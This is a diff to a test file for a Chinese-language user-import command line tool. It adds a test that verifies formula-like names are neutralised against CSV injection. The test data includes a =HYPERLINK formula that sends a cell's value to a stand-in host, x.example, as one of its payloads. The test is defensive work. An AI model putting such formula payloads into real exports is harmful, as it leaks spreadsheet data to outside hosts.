@@ -206,6 +206,24 @@ describe('jixiao CLI', () => {
     expect(existsSync(join(dir, 'p2.csv'))).toBe(false);
   });
 
+  it('user import writes names that look like formulas as text in the passwords file (no CSV injection)', async () => {
+    const list = join(dir, 'formula-users.csv');
+    writeFileSync(
+      list,
+      '用户名,姓名,角色,单位\n@wg.f1,"=HYPERLINK(""http://x.example/?""&E2,""点我"")",填报人,武冈市妇联\nwg.f2,+甲,填报人,武冈市妇联\nwg.f3,-乙,填报人,武冈市妇联\n',
+    );
+    const out = join(dir, 'formula-passwords.csv');
+    const r = await cli('user', 'import', list, '--out', out, '--data', dir);
+    expect(r.code, r.err).toBe(0);
+    const lines = readFileSync(out, 'utf8')
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\n');
+    expect(lines[1]).toMatch(/^'@wg\.f1,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&E2,""点我""\)",填报人,武冈市妇女联合会,\w{16}$/);
+    expect(lines[2]).toMatch(/^wg\.f2,'\+甲,/);
+    expect(lines[3]).toMatch(/^wg\.f3,'-乙,/);
+  });
+
   it('user import refuses a list with problems, naming each line, and reads .xlsx too', async () => {
     const bad = join(dir, 'bad.csv');
     writeFileSync(bad, '用户名,姓名,角色,单位\nok.one,甲,填报人,武冈市妇联\nno.unit,乙,填报人,不存在的单位\nx,丙,领导,武冈市妇联\n');
